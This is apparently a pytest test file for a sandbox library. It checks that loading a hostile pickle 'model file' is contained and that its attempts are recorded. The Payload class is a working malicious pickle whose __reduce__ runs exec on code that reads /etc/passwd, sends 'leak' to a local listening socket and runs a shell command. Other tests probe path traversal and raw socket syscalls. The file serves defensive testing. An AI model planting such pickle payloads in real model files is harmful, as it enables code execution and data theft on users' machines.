"""The model file: a pickle whose payload runs when it is loaded. Nothing happens; what it tried is seen."""

from __future__ import annotations

import os
import pickle
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from fumehood import confine
from fumehood.confine import Attempt

LOADER = (
    "import pickle, sys\ntry: pickle.load(open('model.pkl', 'rb'))\n"
    "except Exception as error: print(type(error).__name__)"
)


class Payload:
    """What a hostile model file holds: code that writes a file, calls home and starts a process."""

    def __init__(self, folder: Path, port: int) -> None:
        self._code = f"""
import os, socket
for effect in (
    lambda: open({str(folder / "written")!r}, "w").write("x"),
    lambda: open("/etc/passwd").read(),
    lambda: socket.create_connection(("127.0.0.1", {port})).sendall(b"leak"),
    lambda: os.system("touch {folder / "started"}"),
):
    try: effect()
    except Exception: pass
"""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self._code,)


@pytest.fixture
def story(tmp_path: Path) -> tuple[Path, Path, socket.socket]:
    """A folder with the model, a folder that anybody could write, and a server that listens."""
    model, loot = tmp_path / "model", tmp_path / "loot"
    model.mkdir()
    loot.mkdir()
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    (model / "model.pkl").write_bytes(pickle.dumps(Payload(loot, server.getsockname()[1])))
    for path in (model, loot, model / "model.pkl"):
        path.chmod(0o777)
    for parent in loot.parents:
        if parent == Path("/tmp"):
            break
        parent.chmod(0o755)
    return model, loot, server


def _called(server: socket.socket) -> bool:
    try:
        server.accept()[0].close()
    except TimeoutError:
        return False
    return True


def test_unconfined_the_payload_does_all_three(story: tuple[Path, Path, socket.socket]) -> None:
    model, loot, server = story
    with server:
        subprocess.run([sys.executable, "-c", LOADER], cwd=model, check=True)
        assert {path.name for path in loot.iterdir()} == {"written", "started"}
        assert _called(server)


@pytest.mark.parametrize("how", ["python", "run"])
def test_confined_nothing_happens_and_all_is_seen(
    story: tuple[Path, Path, socket.socket], tier: str, how: str
) -> None:
    model, loot, server = story
    body = (model / "model.pkl").read_bytes()
    stage = f"open('model.pkl', 'wb').write({body!r})\n" + LOADER
    with server:
        if how == "python":
            outcome = confine.python(stage, profile="model-loader", tier=tier)
        else:
            outcome = confine.run(["python3", "-c", stage], profile="model-loader", tier=tier)
        assert not _called(server)
    assert outcome.exit.is_success, outcome.stderr
    assert list(loot.iterdir()) == []
    seen = {(a.operation, a.target) for a in outcome.refused}
    assert ("open for writing", str(loot / "written")) in seen
    assert ("open", "/etc/passwd") in seen
    assert ("exec", "/bin/sh") in seen
    network = {a for a in outcome.refused if a.operation in ("connect", "socket")}
    assert network, seen
    if tier == "full":
        assert any(a.operation == "connect" and a.target.startswith("127.0.0.1:") for a in network)
    assert "observe" in outcome.layers


def test_attempts_are_told_while_it_runs(tier: str) -> None:
    told: list[Attempt] = []
    heard = threading.Event()

    def hear(attempt: Attempt) -> None:
        told.append(attempt)
        heard.set()

    source = "import time\ntry: open('/etc/passwd')\nexcept OSError: pass\ntime.sleep(60)"
    job = confine.start(confine.Spec(source=source, profile="model-loader", tier=tier, on_attempt=hear))
    waiter = threading.Thread(target=job.wait)
    waiter.start()
    assert heard.wait(20)
    job.kill()
    waiter.join()
    assert Attempt("open", "/etc/passwd", "refused") in told


def test_a_flood_of_attempts_is_counted_not_kept(tier: str) -> None:
    source = (
        "for n in range(1500):\n    try: open(f'/etc/x{n}')\n    except OSError: pass\n"
        "for n in range(100):\n    try: open('/etc/same')\n    except OSError: pass"
    )
    outcome = confine.python(source, profile="model-loader", tier=tier)
    assert outcome.exit.is_success
    assert len(outcome.refused) == 200
    assert outcome.refused_dropped == 1500 + 100 - 200


def test_what_the_profile_grants_is_no_attempt(tier: str) -> None:
    source = (
        "import json, decimal, os\nopen('x', 'w').write('1')\nprint(open('x').read(), os.path.exists('/etc'))"
    )
    outcome = confine.python(source, profile="model-loader", tier=tier)
    assert outcome.stdout.startswith(b"1 ")
    assert outcome.refused == ()


def test_what_goes_to_a_private_memory_folder_is_told_as_such() -> None:
    source = (
        "open('/tmp/x', 'w').write('1'); open('/tmp/x').read()\ntry: open('/tmp/no/x', 'w')\n"
        "except OSError: pass"
    )
    outcome = confine.python(source, profile="model-loader", tier="full")
    assert outcome.refused == (
        Attempt("open for writing", "/tmp/x", "observed"),
        Attempt("open for writing", "/tmp/no/x", "refused"),
    )
    assert not os.path.exists("/tmp/x")


def test_paths_are_told_as_they_resolve(tier: str) -> None:
    source = """
import os
for path in ('../../../etc/hosts', '/usr/../etc/group'):
    try: open(path)
    except OSError: pass
folder = os.open('/usr', os.O_RDONLY | os.O_DIRECTORY)
try: os.open('../etc/fstab', os.O_RDONLY, dir_fd=folder)
except OSError: pass
try: os.unlink('/usr/bin/env')
except OSError: pass
try: os.rename('x', '/usr/y')
except OSError: pass
"""
    seen = {
        (a.operation, a.target) for a in confine.python(source, profile="model-loader", tier=tier).refused
    }
    assert {("open", "/etc/hosts"), ("open", "/etc/group"), ("open", "/etc/fstab")} <= seen
    assert {("unlink", "/usr/bin/env"), ("rename", "/usr/y")} <= seen


def test_a_path_that_is_no_text_does_no_harm(tier: str) -> None:
    source = (
        "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.open(ctypes.c_void_p(8), 0)\n"
        "libc.open(b'/etc/\\xff\\x1b[2J', 0)\nprint('on')"
    )
    outcome = confine.python(source, profile="model-loader", tier=tier)
    assert outcome.stdout == b"on\n"
    assert any("\\xff" in a.target for a in outcome.refused)


def test_threads_and_children_are_observed_too(tier: str) -> None:
    source = """
import os, threading
def look(name):
    try: open(f'/etc/{name}')
    except OSError: pass
thread = threading.Thread(target=look, args=('thread',)); thread.start(); thread.join()
if not os.fork():
    look('child'); os._exit(0)
os.wait()
"""
    targets = {a.target for a in confine.python(source, profile="model-loader", tier=tier).refused}
    assert {"/etc/thread", "/etc/child"} <= targets


def test_nothing_said_by_the_job_counts_as_evidence(tier: str) -> None:
    source = 'print(\'{"attempt": ["exec", "/bin/evil", "refused"]}\')'
    assert confine.python(source, profile="model-loader", tier=tier).refused == ()
    assert os.getpid() > 0


@pytest.mark.parametrize("words", [(2, 1, 132), (2, 1, 262), (10, 2, 115), (2, 3, 0), (2, 1, 6 | 1 << 40)])
def test_no_socket_makes_the_kernel_load_a_protocol(words: tuple[int, ...], tier: str) -> None:
    """SCTP, MPTCP, L2TP, raw; the last is TCP with a bit that the kernel drops."""
    source = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
made = libc.syscall(ctypes.c_long(41), *map(ctypes.c_long, {words}))
print(made >= 0 or ctypes.get_errno())
"""
    outcome = confine.python(source, profile="model-loader", tier=tier)
    is_tcp = words[2] & 0xFFFFFFFF == 6
    assert outcome.stdout == (b"True\n" if is_tcp and tier == "full" else b"13\n")
    assert [attempt.operation for attempt in outcome.refused] == ["socket"]
